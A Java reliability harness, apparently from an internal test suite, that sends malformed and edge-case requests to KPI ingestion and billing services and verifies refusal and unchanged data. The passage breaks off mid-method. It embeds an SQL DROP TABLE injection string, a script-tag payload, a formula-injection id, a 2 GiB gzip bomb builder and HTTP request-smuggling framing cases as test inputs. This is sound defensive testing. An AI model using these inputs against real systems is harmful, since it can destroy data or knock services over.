package aikpi.e2e.reliability;

import aikpi.e2e.reliability.Services.Answer;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.util.RawValue;
import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Set;
import java.util.TreeMap;
import java.util.function.Consumer;

/**
 * Bad-input harness (not a test): a corpus of malformed requests for every write endpoint of tongyi-service,
 * quark-service and cloud-billing-service — broken JSON, wrong types, missing fields, huge and negative numbers,
 * unknown ids, future and absurd dates, batches over the item limit and bodies over the size limit, duplicate ids
 * inside one batch where the service's rule refuses them, non-UTF-8 bytes, SQL and script fragments where an id must
 * be a slug — each sent with a valid item beside the bad one, so that a batch that is not atomic shows. Every one
 * must be answered 4xx with {@code application/problem+json} (zero 5xx), and afterwards the stored data must be
 * exactly what it was (the services' lists, summaries, KPIs and metrics of the seeded quarter, and their
 * {@code kpi_ingest_items_total} accepted/duplicate counters).
 *
 * <p>Then the cases that are valid and must be stored as sent, checked by reading them back: SQL and script
 * fragments in free-text fields (names, display names, the revenue source) and in client-chosen ids (event, line,
 * session, entry, voucher ids, user ids, benchmark names); ids repeated inside one batch where the service's rule is
 * "counted once" (usage events, installs, app opens, AI sessions, ledger lines, GPU entries); and the largest numbers
 * the rules allow, summed (the summaries must still answer). The seeded quarter must be unchanged after those too.
 *
 * <p>{@code mvn -B -q -o -pl e2e-tests test-compile exec:java -Dexec.mainClass=aikpi.e2e.reliability.BadInputHarness}.
 * It always runs the whole corpus (well under a minute); {@code -Dreliability.short=true} is accepted for symmetry.
 * Exits 1 when a promise is broken.
 */
public final class BadInputHarness {

    private static final String T = Services.TONGYI;
    private static final String Q = Services.QUARK;
    private static final String B = Services.BILLING;
    private static final String SQL = "x'); DROP TABLE usage_event; --";
    private static final String SCRIPT = "<script>alert('kpi')</script>";
    private static final String QUARTER = "2024-Q3";
    /** A valid case's voucher id that a spreadsheet would run as a formula. */
    private static final String FORMULA_VOUCHER = "=1+2";
    /** Sketches built with Apache DataSketches 6.2, base64: HLL_8 lgK 12 of {rb-user-1, rb-user-2} and of {rb-user-1}. */
    private static final String HLL_TWO = "AgEHDAMIAgghjxQTshtkBg==";
    private static final String HLL_ONE = "AgEHDAMIAQghjxQT";
    private static final String HLL_EMPTY = "AgEHDAMMAAg=";
    /** A Theta CompactSketch of {rb-user-1, rb-user-2}, the default seed; the same built with seed 42. */
    private static final String THETA_TWO = "AgMDAAAazJMCAAAAAACAP9kNMg1uQV8BkEeKu0Uf7B8=";
    private static final String THETA_SEED_42 = "AgMDAAAa+H0CAAAAAACAP8DaRpXN0iIFTJOziyECwh0=";
    /** An empty lgK 21 HLL sketch whose preamble says lgK 22; a dense HLL sketch cut after 60 bytes. */
    private static final String HLL_LG_K_22 = "AgEHFgMMAAg=";
    private static final String HLL_TRUNCATED = "CgEHCgAAAApu3Gp4MWezQAAAAIAO2GJAAAAAAAAAAAAHAAAAAAAAAAQBBAIDAgcDAgQEBwMFBAcDBQME";
    /** A day of the daily aggregates app: two active users, one of them with a resolved AI session. */
    private static final String DAY = "{\"installs\":1,\"opens\":3,\"aiSessions\":{\"sessions\":1,\"turns\":2,"
            + "\"agentCalls\":0,\"resolved\":1,\"abandoned\":0,\"escalated\":0,\"unknown\":0,\"rated\":1,"
            + "\"ratingSum\":4,\"converted\":0,\"conversionValueCny\":0},\"activeUsers\":\"" + HLL_TWO
            + "\",\"newUsers\":\"" + HLL_TWO + "\",\"aiUsers\":\"" + HLL_ONE + "\",\"activeUsersTheta\":\"" + THETA_TWO + "\"}";

    /** One request of the corpus and the statuses it may be answered with (empty: any 4xx). */
    private record Case(String endpoint, String name, String method, String module, String path, byte[] body,
                        String contentType, boolean expectContinue, Set<Integer> allowed, String readBack,
                        Map<String, String> headers) {
    }

    /** A case's answer. */
    private record Result(Case c, Answer a, String verdict) {
        boolean ok() {
            return verdict == null;
        }
    }

    private final Services s;
    private final List<Case> cases = new ArrayList<>();
    private final String today = LocalDate.now(ZoneOffset.UTC).toString();
    private final String in3days = LocalDate.now(ZoneOffset.UTC).plusDays(3).toString();
    private final String inAnHour = Instant.now().plus(1, ChronoUnit.HOURS).truncatedTo(ChronoUnit.SECONDS).toString();
    private int n;
    /** An id of 129 characters (ids take at most 128) and an SQL fragment, as JSON strings. */
    private final String longId = str("i".repeat(129));
    private final String sql = str(SQL);

    private BadInputHarness(Services s) {
        this.s = s;
    }

    public static void main(String[] args) throws Exception {
        boolean pass;
        try (Services s = new Services("badinput", Map.of())) {
            System.out.println("BadInputHarness " + Stats.now() + "; work directory " + s.work());
            s.start(T, Q, B, Services.GATEWAY);
            pass = run(s, Services.shortForm(args));
        }
        System.exit(pass ? 0 : 1);
    }

    static boolean run(Services s, boolean shortForm) throws Exception {
        return new BadInputHarness(s).go();
    }

    private boolean go() throws Exception {
        seed();
        Map<String, String> before = snapshot();
        Map<String, Long> countersBefore = counters();

        corpus();
        List<Result> results = new ArrayList<>();
        int storedAnyway = 0;
        for (Case c : cases) {
            String stream = counterStream(c);
            long acceptedBefore = stream == null ? 0 : s.ingestCounter(c.module(), stream, "accepted");
            Answer a = s.send(c.method(), c.module(), c.path(), c.body(), c.contentType(), true, Duration.ofSeconds(120),
                    c.expectContinue(), c.headers());
            String verdict = judge(c, a);
            // A refused request must have stored nothing: its stream's counter, or the resource it named.
            if (a.status() >= 400 && a.status() < 500 && stream != null) {
                long stored = s.ingestCounter(c.module(), stream, "accepted") - acceptedBefore;
                if (stored != 0) {
                    verdict = (verdict == null ? "" : verdict + "; ") + "refused, yet " + stored + " items were stored";
                    storedAnyway++;
                }
            } else if (a.status() >= 400 && a.status() < 500 && c.method().equals("PUT") && c.readBack() != null) {
                Answer g = s.get(c.module(), c.readBack());
                if (g.status() != 404) {
                    verdict = (verdict == null ? "" : verdict + "; ") + "refused, yet GET " + c.readBack() + " answers " + g.status();
                    storedAnyway++;
                }
            }
            results.add(new Result(c, a, verdict));
        }
        List<List<String>> framing = new ArrayList<>();
        boolean framingHeld = framing(framing);
        // Without "Expect: 100-continue" a client streams a body over the limit regardless; reported, not judged.
        List<String> noContinue = new ArrayList<>();
        for (String[] e : new String[][] {{T, "/api/v1/usage/events"}, {Q, "/api/v1/activity/events"}, {B, "/api/v1/ledger/lines"}}) {
            Answer a = s.send("POST", e[0], e[1], oversized(), "application/json", true, Duration.ofSeconds(120), false);
            noContinue.add(e[0] + e[1] + ": " + (a.failure() != null ? "no answer (" + a.failure().getClass().getSimpleName()
                    + ": " + a.failure().getMessage() + ")" : a.status() + " " + a.contentType()));
        }
        Map<String, String> after = snapshot();
        Map<String, Long> countersAfter = counters();
        StringBuilder report = new StringBuilder("module\tmethod\tendpoint\tcase\tstatus\tcontent type\tverdict\tdetail\n");
        for (Result r : results) {
            String detail = r.a().isProblem() && r.a().body() != null ? r.a().json().path("detail").asText() : "";
            report.append(r.c().module()).append('\t').append(r.c().method()).append('\t').append(r.c().endpoint()).append('\t')
                    .append(r.c().name()).append('\t').append(r.a().status()).append('\t').append(r.a().contentType()).append('\t')
                    .append(r.ok() ? "OK" : r.verdict()).append('\t').append(Services.abbreviate(detail, 300)).append('\n');
        }
        java.nio.file.Path tsv = s.work().resolve("bad-input-cases.tsv");
        java.nio.file.Files.writeString(tsv, report.toString());

        boolean pass = true;
        // Per endpoint: how the corpus was answered.
        Map<String, int[]> byEndpoint = new TreeMap<>();
        for (Result r : results) {
            int[] k = byEndpoint.computeIfAbsent(r.c().module() + " " + r.c().method() + " " + r.c().endpoint(), x -> new int[7]);
            k[0]++;
            int st = r.a().status();
            if (st >= 400 && st < 500 && r.a().isProblem()) {
                k[1]++;
            } else if (st >= 400 && st < 500) {
                k[2]++;
            } else if (st >= 200 && st < 300) {
                k[3]++;
            } else if (st >= 500) {
                k[4]++;
            } else {
                k[5]++;
            }
            if (!r.ok()) {
                k[6]++;
            }
        }
        List<List<String>> rows = new ArrayList<>();
        int total5xx = 0;
        int failed = 0;
        for (Map.Entry<String, int[]> e : byEndpoint.entrySet()) {
            int[] k = e.getValue();
            total5xx += k[4];
            failed += k[6];
            rows.add(List.of(e.getKey(), String.valueOf(k[0]), String.valueOf(k[1]), String.valueOf(k[2]),
                    String.valueOf(k[3]), String.valueOf(k[4]), String.valueOf(k[5]), k[6] == 0 ? "OK" : "FAIL " + k[6]));
        }
        pass &= failed == 0;
        System.out.printf("%nMalformed requests: %d cases on %d endpoints%n", results.size(), byEndpoint.size());
        System.out.print(Stats.table(List.of("endpoint", "cases", "4xx problem+json", "4xx other", "2xx (accepted!)", "5xx",
                "no answer", "result"), rows));
        Map<Integer, Integer> statuses = new TreeMap<>();
        results.forEach(r -> statuses.merge(r.a().status(), 1, Integer::sum));
        System.out.println("statuses: " + statuses + "; 5xx: " + total5xx + "; refused requests that stored something anyway: "
                + storedAnyway + "; every case and its answer: " + tsv);
        for (Result r : results) {
            if (!r.ok()) {
                System.out.println("  FAILED " + r.c().module() + " " + r.c().method() + " " + r.c().path() + " — "
                        + r.c().name() + ": " + r.verdict() + "\n         request " + Services.abbreviate(
                        r.c().body() == null ? "" : new String(r.c().body(), StandardCharsets.UTF_8), 300)
                        + "\n         answer  " + r.a().summary() + readBack(r));
            }
        }
        System.out.println("bodies over the size limit sent without Expect: 100-continue (reported only):");
        noContinue.forEach(x -> System.out.println("  " + x));

        System.out.println("\nHTTP framing (RFC 9112 sections 5.2, 6.1, 6.3) over a raw socket: 400 problem+json and the "
                + "connection closed; a well-formed chunked write read as usual");
        System.out.print(Stats.table(List.of("service", "case", "answer", "result"), framing));
        pass &= framingHeld;

        boolean unchanged = compare("after the malformed corpus", before, after);
        boolean countersSame = compareCounters(countersBefore, countersAfter);
        pass &= unchanged && countersSame;

        // The valid cases: stored verbatim, counted once, summed without breaking.
        List<List<String>> valid = new ArrayList<>();
        pass &= validCases(valid);
        System.out.println("\nValid inputs that must be stored as sent (read back) or counted once");
        System.out.print(Stats.table(List.of("service", "case", "expected", "got", "result"), valid));
        Map<String, String> afterValid = snapshot();
        pass &= compare("after the valid cases, compared with after the corpus (their own ids and periods are outside "
                + "the seeded quarter)", after, afterValid);

        System.out.println((pass ? "PASS" : "FAIL") + " BadInputHarness: every malformed request answered 4xx problem+json, "
                + "no 5xx, stored data unchanged; valid odd inputs stored verbatim and counted once");
        return pass;
    }

    private String readBack(Result r) {
        if (r.c().readBack() == null || !r.a().ok()) {
            return "";
        }
        Answer g = s.get(r.c().module(), r.c().readBack());
        return "\n         stored  " + g.summary();
    }

    /** A write path of each service: the framing cases are sent to it (they are refused before any routing). */
    private static final Map<String, String> FRAMING_PATHS = new TreeMap<>(Map.of(T, "/api/v1/usage/events",
            Q, "/api/v1/activity/events", B, "/api/v1/ledger/lines", Services.GATEWAY, "/api/v1/targets/FY2025/group/x"));

    /**
     * Each service, over a raw socket: every framing case gets 400 problem+json and a closed connection with nothing
     * after it read as a request; a well-formed chunked read (a GET of a list, with a chunked empty body) is answered
     * and the connection stays open.
     */
    private boolean framing(List<List<String>> rows) {
        boolean pass = true;
        for (Map.Entry<String, String> e : FRAMING_PATHS.entrySet()) {
            String module = e.getKey();
            if (!s.isRunning(module)) {
                continue;
            }
            int port = Integer.parseInt(s.url(module).substring(s.url(module).lastIndexOf(':') + 1));
            for (aikpi.testing.RawHttp.FramingCase c : aikpi.testing.RawHttp.malformedFraming(e.getValue())) {
                // A smuggled second request follows each one; it must never be answered.
                byte[] request = (new String(c.bytes("127.0.0.1:" + port), StandardCharsets.ISO_8859_1)
                        + "GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n").getBytes(StandardCharsets.ISO_8859_1);
                aikpi.testing.RawHttp.Answer a = aikpi.testing.RawHttp.exchange("127.0.0.1", port, request, 3_000);
                boolean ok = a.status() == 400 && a.contentType().equals("application/problem+json") && a.closed()
                        && a.responses() == 1;
                pass &= ok;
                rows.add(List.of(module, c.name(), a.status() + " " + a.contentType() + (a.closed() ? ", closed" : ", left open")
                        + (a.responses() > 1 ? ", " + a.responses() + " answers" : ""), ok ? "OK" : "FAIL"));
            }
            byte[] chunked = aikpi.testing.RawHttp.chunked("GET", "/health", "127.0.0.1:" + port, null, "{}");
            aikpi.testing.RawHttp.Answer a = aikpi.testing.RawHttp.exchange("127.0.0.1", port, chunked, 1_500);
            boolean ok = a.status() == 200 && !a.closed();
            pass &= ok;
            rows.add(List.of(module, "well-formed chunked request", a.status() + (a.closed() ? ", closed" : ", kept open"),
                    ok ? "OK" : "FAIL"));
        }
        return pass;
    }

    /** The ingestion counter that shows whether a request to this endpoint stored items (null: none). */
    private static String counterStream(Case c) {
        if (!c.method().equals("POST")) {
            return null;
        }
        return switch (c.endpoint()) {
            case "/api/v1/usage/events" -> "usage-events";
            case "/api/v1/models/{id}/hub-stats" -> "hub-stats";
            case "/api/v1/resources/usage" -> "resource-usage";
            case "/api/v1/installs" -> "installs";
            case "/api/v1/activity/events" -> "activity-events";
            case "/api/v1/ai-sessions" -> "ai-sessions";
            case "/api/v1/segment/batch", "/api/v1/segment/track" -> "segment";
            case "/api/v1/ledger/lines" -> "ledger-lines";
            default -> null;
        };
    }

    private static String judge(Case c, Answer a) {
        if (a.failure() != null) {
            return "no answer";
        }
        if (a.status() >= 500) {
            return "server error " + a.status();
        }
        if (a.status() < 400) {
            return "accepted (" + a.status() + "), expected a 4xx";
        }
        if (!c.allowed().isEmpty() && !c.allowed().contains(a.status())) {
            return "status " + a.status() + ", expected " + c.allowed();
        }
        if (!a.isProblem()) {
            return "content type " + a.contentType() + ", expected application/problem+json";
        }
        try {
            JsonNode p = a.json();
            if (p.path("status").asInt() != a.status() || p.path("title").asText().isEmpty()) {
                return "problem document without a matching status and a title: " + Services.abbreviate(a.body(), 200);
            }
        } catch (RuntimeException e) {
            return "problem document is not JSON";
        }
        return null;
    }

    // ------------------------------------------------------------------------------------------------ seed

    private void seed() {
        s.write("PUT", T, "/api/v1/models/rb-model", "{\"family\":\"rb\",\"vendor\":\"Alibaba\",\"displayName\":\"RB model\","
                + "\"parametersBillions\":7,\"openSource\":true,\"license\":\"Apache-2.0\",\"releaseDate\":\"2024-07-01\"}");
        s.write("PUT", T, "/api/v1/customers/rb-cust", "{\"name\":\"RB customer\",\"kind\":\"EXTERNAL\",\"onboardedOn\":\"2024-07-01\"}");
        s.write("PUT", T, "/api/v1/customers/rb-unit", "{\"name\":\"RB unit\",\"kind\":\"INTERNAL\",\"businessUnit\":\"taobao\","
                + "\"onboardedOn\":\"2024-07-02\"}");
        StringBuilder usage = new StringBuilder("[");
        for (int i = 0; i < 20; i++) {
            usage.append(i > 0 ? "," : "").append("{\"eventId\":\"rb-u-").append(i).append("\",\"customerId\":\"")
                    .append(i % 2 == 0 ? "rb-cust" : "rb-unit").append("\",\"modelId\":\"rb-model\",\"occurredAt\":\"2024-08-")
                    .append(String.format("%02d", 1 + i)).append("T04:00:00Z\",\"inputTokens\":").append(100 + i)
                    .append(",\"outputTokens\":").append(10 + i).append("}");
        }
        s.write("POST", T, "/api/v1/usage/events", usage.append("]").toString());
        s.write("POST", T, "/api/v1/models/rb-model/hub-stats", "[{\"date\":\"2024-08-01\",\"platform\":\"MODELSCOPE\","
                + "\"downloads\":1000,\"likes\":10,\"derivatives\":{\"finetune\":3,\"quantized\":2,\"adapter\":1,\"merge\":0}},"
                + "{\"date\":\"2024-09-01\",\"platform\":\"MODELSCOPE\",\"downloads\":1500,\"likes\":15,\"derivatives\":{\"finetune\":5}}]");
        s.write("POST", T, "/api/v1/benchmarks", "[{\"modelId\":\"rb-model\",\"benchmark\":\"rb-bench\",\"score\":80.5,"
                + "\"evaluatedOn\":\"2024-08-01\"}]");
        s.write("POST", T, "/api/v1/resources/usage", "[{\"entryId\":\"rb-r-1\",\"date\":\"2024-08-01\",\"purpose\":\"TRAINING\","
                + "\"modelId\":\"rb-model\",\"gpuHours\":100.5,\"costCny\":1234.56},{\"entryId\":\"rb-r-2\",\"date\":\"2024-08-02\","
                + "\"purpose\":\"INFERENCE\",\"gpuHours\":10,\"costCny\":99.99}]");

        s.write("PUT", Q, "/api/v1/apps/rb-app", "{\"name\":\"RB app\",\"businessUnit\":\"quark\",\"launchedOn\":\"2024-07-01\"}");
        s.write("PUT", Q, "/api/v1/apps/rb-app/features/rb-feat", "{\"name\":\"RB assistant\",\"kind\":\"ASSISTANT\","
                + "\"launchedOn\":\"2024-07-01\"}");
        StringBuilder installs = new StringBuilder("[");
        StringBuilder opens = new StringBuilder("[");
        StringBuilder sessions = new StringBuilder("[");
        for (int i = 0; i < 20; i++) {
            String at = "2024-08-" + String.format("%02d", 1 + i) + "T04:00:00Z";
            if (i < 10) {
                installs.append(i > 0 ? "," : "").append("{\"eventId\":\"rb-i-").append(i).append("\",\"appId\":\"rb-app\","
                        + "\"userId\":\"rb-user-").append(i).append("\",\"occurredAt\":\"").append(at).append("\"}");
            }
            opens.append(i > 0 ? "," : "").append("{\"eventId\":\"rb-o-").append(i).append("\",\"appId\":\"rb-app\","
                    + "\"userId\":\"rb-user-").append(i % 15).append("\",\"occurredAt\":\"").append(at).append("\"}");
            sessions.append(i > 0 ? "," : "").append("{\"sessionId\":\"rb-s-").append(i).append("\",\"appId\":\"rb-app\","
                    + "\"featureId\":\"rb-feat\",\"userId\":\"rb-user-").append(i % 7).append("\",\"startedAt\":\"").append(at)
                    .append("\",\"turns\":").append(1 + i % 5).append(",\"agentCalls\":").append(i % 3)
                    .append(",\"outcome\":\"").append(i % 3 == 0 ? "RESOLVED" : "ABANDONED").append("\",\"rating\":")
                    .append(i % 4 == 0 ? "null" : String.valueOf(1 + i % 5)).append(",\"converted\":").append(i % 5 == 0)
                    .append(",\"conversionValueCny\":").append(i % 5 == 0 ? "12.34" : "null").append("}");
        }
        s.write("POST", Q, "/api/v1/installs", installs.append("]").toString());
        s.write("POST", Q, "/api/v1/activity/events", opens.append("]").toString());
        s.write("POST", Q, "/api/v1/ai-sessions", sessions.append("]").toString());
        s.write("PUT", Q, "/api/v1/apps/rb-agg", "{\"name\":\"RB daily aggregates\",\"businessUnit\":\"taobao\","
                + "\"launchedOn\":\"2024-07-01\",\"feed\":\"AGGREGATES\"}");
        s.write("PUT", Q, "/api/v1/apps/rb-agg/days/2024-08-10", DAY);

        s.write("PUT", B, "/api/v1/group-revenue/" + QUARTER, "{\"groupRevenueCny\":236503000000.00,"
                + "\"cloudRevenueCny\":29610000000.00,\"source\":\"reliability harness (synthetic)\"}");
        s.write("PUT", B, "/api/v1/vouchers/rb-v1", "{\"customerId\":\"rb-inv\",\"customerKind\":\"INVESTEE\",\"amountCny\":1000.00,"
                + "\"issuedOn\":\"2024-07-01\",\"expiresOn\":\"2024-12-31\"}");
        s.write("PUT", B, "/api/v1/vouchers/rb-v2", "{\"customerId\":\"rb-other\",\"customerKind\":\"PARTNER\",\"amountCny\":500.00,"
                + "\"issuedOn\":\"2024-07-01\",\"expiresOn\":\"2024-12-31\"}");
        s.write("POST", B, "/api/v1/ledger/lines", "["
                + line("rb-l1", "rb-cust", "EXTERNAL", null, "2024-08-01", "IAAS", "1000.00", "CASH", null, null, null) + ","
                + line("rb-l2", "rb-cust", "EXTERNAL", null, "2024-08-02", "MAAS_TOKENS", "250.00", "CASH", null, 1_000_000L, null) + ","
                + line("rb-l3", "rb-inv", "INVESTEE", null, "2024-08-03", "AI_COMPUTE", "100.00", "VOUCHER", "rb-v1", null, null) + ","
                + line("rb-l4", "rb-unit", "INTERNAL", "taobao", "2024-08-04", "AI_APPS", "75.50", "CASH", null, null, null) + ","
                + line("rb-l5", "rb-cust", "EXTERNAL", null, "2024-08-05", "MAAS_TOKENS", "-50.00", "CASH", null, -200_000L, "rb-l2")
                + "]");
    }

    private static String line(String id, String customer, String kind, String unit, String booked, String product,
                               String amount, String funding, String voucher, Long tokens, String correctionOf) {
        return "{\"lineId\":" + Services.q(id) + ",\"customerId\":" + Services.q(customer) + ",\"customerKind\":" + Services.q(kind)
                + ",\"businessUnit\":" + Services.q(unit) + ",\"bookedOn\":" + Services.q(booked) + ",\"product\":"
                + Services.q(product) + ",\"amountCny\":" + amount + ",\"funding\":" + Services.q(funding) + ",\"voucherId\":"
                + Services.q(voucher) + ",\"tokens\":" + tokens + ",\"correctionOf\":" + Services.q(correctionOf) + "}";
    }

    // ------------------------------------------------------------------------------------------------ snapshot

    private static final List<String[]> SNAPSHOT = List.of(
            new String[] {T, "/api/v1/models"}, new String[] {T, "/api/v1/customers"},
            new String[] {T, "/api/v1/usage/summary?period=" + QUARTER},
            new String[] {T, "/api/v1/usage/summary?period=" + QUARTER + "&groupBy=customer"},
            new String[] {T, "/api/v1/usage/summary?period=" + QUARTER + "&groupBy=model"},
            new String[] {T, "/api/v1/usage/summary?period=" + QUARTER + "&groupBy=day"},
            new String[] {T, "/api/v1/usage/summary?period=" + QUARTER + "&groupBy=businessUnit"},
            new String[] {T, "/api/v1/kpis?period=" + QUARTER},
            new String[] {T, "/api/v1/models/rb-model/hub-stats?period=" + QUARTER},
            new String[] {T, "/api/v1/benchmarks?benchmark=rb-bench"},
            new String[] {Q, "/api/v1/apps"}, new String[] {Q, "/api/v1/apps/rb-app/features"},
            new String[] {Q, "/api/v1/apps/rb-app/metrics?period=" + QUARTER},
            new String[] {Q, "/api/v1/kpis?period=" + QUARTER},
            new String[] {Q, "/api/v1/apps/rb-agg/metrics?period=" + QUARTER},
            new String[] {Q, "/api/v1/apps/rb-agg/days/2024-08-10"},
            new String[] {B, "/api/v1/group-revenue"}, new String[] {B, "/api/v1/vouchers"},
            new String[] {B, "/api/v1/ledger/summary?period=" + QUARTER},
            new String[] {B, "/api/v1/ledger/summary?period=" + QUARTER + "&groupBy=product"},
            new String[] {B, "/api/v1/ledger/summary?period=" + QUARTER + "&groupBy=funding"},
            new String[] {B, "/api/v1/ledger/summary?period=" + QUARTER + "&groupBy=customer"},
            new String[] {B, "/api/v1/ledger/summary?period=" + QUARTER + "&groupBy=businessUnit"},
            new String[] {B, "/api/v1/ledger/lines/rb-l2"},
            new String[] {B, "/api/v1/ledger/imports"},
            new String[] {B, "/api/v1/attribution?period=" + QUARTER});

    /** What the services hold, as they answer it; the valid cases' own entries (vouchers, a quarter) are left out. */
    private Map<String, String> snapshot() {
        Map<String, String> snap = new LinkedHashMap<>();
        for (String[] r : SNAPSHOT) {
            JsonNode n = s.read(r[0], r[1]);
            if (n.isArray() && !r[1].startsWith("/api/v1/benchmarks")) {
                ArrayNode kept = Services.JSON.createArrayNode();
                for (JsonNode e : n) {
                    String id = e.path(e.has("voucherId") ? "voucherId" : e.has("quarter") ? "quarter" : e.has("modelId")
                            ? "modelId" : e.has("customerId") ? "customerId" : "appId").asText();
                    if (!id.startsWith("rb-ok-") && !id.equals("2019-Q1") && !id.equals(FORMULA_VOUCHER)) {
                        kept.add(e);
                    }
                }
                n = kept;
            }
            snap.put(r[0] + r[1], n.toString());
        }
        return snap;
    }

    private static boolean compare(String when, Map<String, String> before, Map<String, String> after) {
        List<String> changed = new ArrayList<>();
        for (String k : before.keySet()) {
            if (!Objects.equals(before.get(k), after.get(k))) {
                changed.add(k);
            }
        }
        System.out.printf("%nStored data %s: %d reads compared, %s%n", when, before.size(),
                changed.isEmpty() ? "all identical" : changed.size() + " CHANGED");
        for (String k : changed) {
            System.out.println("  CHANGED " + k + "\n    before " + Services.abbreviate(before.get(k), 600)
                    + "\n    after  " + Services.abbreviate(after.get(k), 600));
        }
        return changed.isEmpty();
    }

    private Map<String, Long> counters() {
        Map<String, Long> all = new TreeMap<>();
        for (String[] st : new String[][] {{T, "usage-events"}, {T, "hub-stats"}, {T, "resource-usage"}, {Q, "installs"},
                {Q, "activity-events"}, {Q, "ai-sessions"}, {Q, "segment"}, {B, "ledger-lines"}}) {
            for (String outcome : List.of("accepted", "duplicate")) {
                all.put(st[0] + " " + st[1] + " " + outcome, s.ingestCounter(st[0], st[1], outcome));
            }
        }
        return all;
    }

    private static boolean compareCounters(Map<String, Long> before, Map<String, Long> after) {
        List<String> changed = new ArrayList<>();
        before.forEach((k, v) -> {
            if (!Objects.equals(v, after.get(k))) {
                changed.add(k + " " + v + " -> " + after.get(k));
            }
        });
        System.out.println("kpi_ingest_items_total accepted/duplicate counters: " + (changed.isEmpty()
                ? "unchanged (" + before.size() + " counters)" : "CHANGED " + changed));
        return changed.isEmpty();
    }

    // ------------------------------------------------------------------------------------------------ corpus

    private static ObjectNode obj(String json) {
        try {
            return (ObjectNode) Services.JSON.readTree(json);
        } catch (Exception e) {
            throw new IllegalArgumentException(json, e);
        }
    }

    /** A copy of {@code item} with {@code field} set to a raw JSON value, or removed when {@code raw} is null. */
    private static ObjectNode with(ObjectNode item, String field, String raw) {
        ObjectNode copy = item.deepCopy();
        ObjectNode target = copy;
        String name = field;
        if (field.contains(".")) {
            target = (ObjectNode) copy.get(field.substring(0, field.indexOf('.')));
            name = field.substring(field.indexOf('.') + 1);
        }
        if (raw == null) {
            target.remove(name);
        } else {
            target.putRawValue(name, new RawValue(raw));
        }
        return copy;
    }

    private static String str(String v) {
        return Services.q(v);
    }

    private void add(String endpoint, String name, String method, String module, String path, String body, int... allowed) {
        add(endpoint, name, method, module, path, body == null ? null : body.getBytes(StandardCharsets.UTF_8),
                "application/json", null, allowed);
    }

    private void add(String endpoint, String name, String method, String module, String path, byte[] body,
                     String contentType, String readBack, int... allowed) {
        Set<Integer> ok = new java.util.HashSet<>();
        for (int a : allowed) {
            ok.add(a);
        }
        cases.add(new Case(endpoint, name, method, module, path, body, contentType, body != null && body.length > 1_000_000,
                ok, readBack, Map.of()));
    }

    /** A FOCUS file for the import, with further headers (such as Content-Encoding). */
    private void focus(String name, byte[] file, Map<String, String> headers, int... allowed) {
        Set<Integer> ok = new java.util.HashSet<>();
        for (int a : allowed) {
            ok.add(a);
        }
        cases.add(new Case("/api/v1/ledger/imports", name, "POST", B, "/api/v1/ledger/imports", file, "text/csv", false,
                ok, null, headers));
    }

    private void focus(String name, String file, int... allowed) {
        focus(name, file.getBytes(StandardCharsets.UTF_8), Map.of(), allowed);
    }

    private static byte[] gzip(byte[] data) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (java.util.zip.GZIPOutputStream gz = new java.util.zip.GZIPOutputStream(out)) {
            gz.write(data);
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    /**
     * The text, then 2 GiB of {@code c}, in about 2 MB of gzip: one member of a MiB of {@code c}, repeated (a gzip
     * stream may hold several members, and gzip readers read them all).
     */
    private static byte[] gzipBomb(String text, char c) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.writeBytes(gzip(text.getBytes(StandardCharsets.UTF_8)));
        byte[] mebibyte = new byte[1 << 20];
        java.util.Arrays.fill(mebibyte, (byte) c);
        byte[] member = gzip(mebibyte);
        for (int i = 0; i < 2048; i++) {
            out.writeBytes(member);
        }
        return out.toByteArray();
    }

    /**
     * A batch endpoint: a valid item (fresh id) and a bad one in one batch, per item variant; then the body-level
     * cases. {@code idField} is renamed per case so nothing of one case can collide with another.
     */
    private void batch(String endpoint, String module, String path, ObjectNode valid, String idField, int limit,
                       Consumer<Map<String, ObjectNode>> variants) {
        Map<String, ObjectNode> bad = new LinkedHashMap<>();
        variants.accept(bad);
        for (Map.Entry<String, ObjectNode> v : bad.entrySet()) {
            int k = ++n;
            ObjectNode good = fresh(valid, idField, k, "a");
            ObjectNode worse = v.getValue();
            if (idField != null && worse.has(idField) && worse.get(idField).asText().equals(valid.path(idField).asText())) {
                worse = fresh(worse, idField, k, "b");
            }
            add(endpoint, v.getKey(), "POST", module, path, "[" + good + "," + worse + "]");
        }
        ArrayNode one = Services.JSON.createArrayNode().add(fresh(valid, idField, ++n, "a"));
        bodyCases(endpoint, "POST", module, path, one.toString(), true);
        // one item more than the limit, all valid
        StringBuilder big = new StringBuilder("[");
        for (int i = 0; i <= limit; i++) {
            big.append(i > 0 ? "," : "").append(limitItem(valid, idField, i));
        }
        add(endpoint, (limit + 1) + " items (limit " + limit + ")", "POST", module, path, big.append("]").toString(), 413);
    }

    private ObjectNode fresh(ObjectNode item, String idField, int k, String suffix) {
        if (idField == null) {
            return item.deepCopy();
        }
        return with(item, idField, str("rb-bad-" + k + suffix));
    }

    /** An item for the over-the-limit batch: unique where the endpoint wants it unique. */
    private static ObjectNode limitItem(ObjectNode valid, String idField, int i) {
        ObjectNode c = valid.deepCopy();
        if (idField != null) {
            c.put(idField, "rb-lim-" + i);
        }
        if (c.has("date") && !c.has("entryId")) { // hub snapshots are unique per (platform, date)
            c.put("date", LocalDate.of(2005, 1, 1).plusDays(i).toString());
        }
        if (c.has("benchmark")) {
            c.put("benchmark", "rb-lim-" + i);
        }
        return c;
    }

    /** Cases about the body as a whole; {@code valid} is a valid body of fresh ids. */
    private void bodyCases(String endpoint, String method, String module, String path, String valid, boolean batch) {
        add(endpoint, "broken JSON (truncated)", method, module, path, valid.substring(0, valid.length() / 2));
        add(endpoint, "broken JSON (trailing garbage)", method, module, path, valid + "}}");
        add(endpoint, "broken JSON (single quotes)", method, module, path, valid.replace('"', '\''));
        add(endpoint, "empty body", method, module, path, "");
        add(endpoint, "JSON null", method, module, path, "null");
        add(endpoint, "wrong top-level type", method, module, path, batch ? "{\"items\":" + valid + "}" : "[" + valid + "]");
